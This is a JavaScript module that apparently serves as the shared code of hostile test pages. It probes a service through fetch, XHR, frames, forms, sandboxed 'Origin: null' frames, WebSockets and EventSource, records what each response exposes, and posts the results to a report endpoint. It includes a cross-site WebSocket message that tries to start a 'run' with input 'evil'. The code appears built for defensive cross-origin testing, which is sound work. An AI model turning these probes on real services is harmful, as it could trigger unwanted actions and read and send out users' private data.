// What the hostile pages share: run attempts, note what a script could read of each answer, and tell the test.

const PATIENCE_MS = 60_000;
const AT_ONCE = 12;

/** Run one attempt; the outcome is what the page has learnt from it. */
async function outcomeOf(attempt) {
  const patience = new Promise((resolve) => setTimeout(resolve, PATIENCE_MS, { seen: 'nothing in time' }));
  try {
    return await Promise.race([attempt(), patience]);
  } catch (error) {
    return { seen: error.name };
  }
}

/** Run all attempts, some at a time, and report them. */
async function report(attempts) {
  const waiting = [...attempts];
  const outcomes = [];
  async function work() {
    for (let next = waiting.shift(); next; next = waiting.shift()) {
      const [what, attempt] = next;
      outcomes.push({ what, read: null, ...(await outcomeOf(attempt)) });
    }
  }
  await Promise.all(Array.from({ length: AT_ONCE }, work));
  const body = JSON.stringify(outcomes);
  await fetch(`${SETUP.site}/report`, { method: 'POST', mode: 'no-cors', body });
}

/** Fetch; an answer that the page may read is read. */
async function tryFetch(url, options = {}) {
  const answer = await fetch(url, options);
  if (answer.type === 'opaque' || answer.type === 'opaqueredirect') return { seen: answer.type };
  return { seen: `status ${answer.status}`, read: await answer.text() };
}

/** XMLHttpRequest, which says when it was refused. */
function tryRequest(method, url, body) {
  return new Promise((resolve) => {
    const request = new XMLHttpRequest();
    request.onload = () => resolve({ seen: `status ${request.status}`, read: request.responseText });
    request.onerror = () => resolve({ seen: 'error' });
    request.open(method, url);
    request.send(body);
  });
}

/** An element that loads the address; `load` only says that something usable came. */
function tryElement(tag, attributes) {
  return new Promise((resolve) => {
    const element = document.createElement(tag);
    element.onload = () => resolve({ seen: 'load' });
    element.onerror = () => resolve({ seen: 'error' });
    Object.assign(element, attributes);
    document.body.append(element);
  });
}

/** A medium; the error's words are all that a script learns of it. */
function tryMedium(tag, url) {
  return new Promise((resolve) => {
    const element = document.createElement(tag);
    element.onloadedmetadata = () => resolve({ seen: 'load' });
    element.onerror = () => resolve({ seen: `error ${element.error.code}: ${element.error.message}` });
    element.src = url;
    document.body.append(element);
  });
}

/** A window of its own, until its document is no longer the empty one. */
function tryWindow(url) {
  return new Promise((resolve) => {
    const opened = open(url);
    const watch = setInterval(() => {
      const outcome = opened ? readWindow(opened) : { seen: 'no window' };
      if (!outcome) return;
      clearInterval(watch);
      opened?.close();
      resolve(outcome);
    }, 50);
  });
}

function readWindow(opened) {
  try {
    if (opened.location.href === 'about:blank') return null;
    return { seen: 'document', read: opened.document.body.innerText };
  } catch (error) {
    return { seen: `${error.name}, ${opened.length} frames` };
  }
}

/** What a page can read of a frame. */
function readFrame(frame) {
  try {
    const text = frame.contentDocument?.body?.innerText;
    return text ? { seen: 'document', read: text } : { seen: 'load' };
  } catch (error) {
    return { seen: error.name };
  }
}

/** A frame that loads the address. */
function tryFrame(url) {
  return new Promise((resolve) => {
    const frame = document.createElement('iframe');
    frame.onload = () => resolve(readFrame(frame));
    frame.src = url;
    document.body.append(frame);
  });
}

let frames = 0;

/** A form that is sent into a frame of its own. */
function tryForm(method, action, enctype, fields) {
  return new Promise((resolve) => {
    const frame = document.createElement('iframe');
    frame.name = `form-${++frames}`;
    const form = Object.assign(document.createElement('form'), { method, action, enctype, target: frame.name });
    for (const [name, value] of Object.entries(fields)) {
      form.append(Object.assign(document.createElement('input'), { name, value }));
    }
    document.body.append(frame, form);
    frame.onload = () => resolve(readFrame(frame));
    form.submit();
  });
}

let sandboxes = 0;

/** An attempt from a frame without an origin: its requests say `Origin: null`. */
function fromSandbox(attempt, ...values) {
  const id = ++sandboxes;
  const script = `let frames = 0; ${readFrame}
    (${attempt})(...${JSON.stringify(values)}).catch((error) => ({ seen: error.name })).then(
      (outcome) => parent.postMessage({ id: ${id}, outcome }, '*'))`;
  return new Promise((resolve) => {
    addEventListener('message', (event) => event.data.id === id && resolve(event.data.outcome));
    const frame = Object.assign(document.createElement('iframe'), {
      srcdoc: `<body><script>${script}<\/script>`,
    });
    frame.setAttribute('sandbox', 'allow-scripts allow-forms');
    document.body.append(frame);
  });
}

/** A WebSocket; `open` would be a way in. */
function trySocket(url, protocols) {
  return new Promise((resolve) => {
    const socket = new WebSocket(url, protocols);
    socket.onopen = () => {
      socket.send('{"type":"run.start","request_id":"evil","input":"evil"}');
      socket.onmessage = (event) => resolve({ seen: 'open', read: String(event.data) });
    };
    socket.onclose = (event) => resolve({ seen: `closed ${event.code}`, read: event.reason || null });
  });
}

/** Server-sent events. */
function tryEvents(url) {
  return new Promise((resolve) => {
    const source = new EventSource(url, { withCredentials: true });
    const end = (outcome) => (source.close(), resolve(outcome));
    source.onopen = () => end({ seen: 'open', read: 'open' });
    source.onerror = () => end({ seen: 'error' });
  });
}
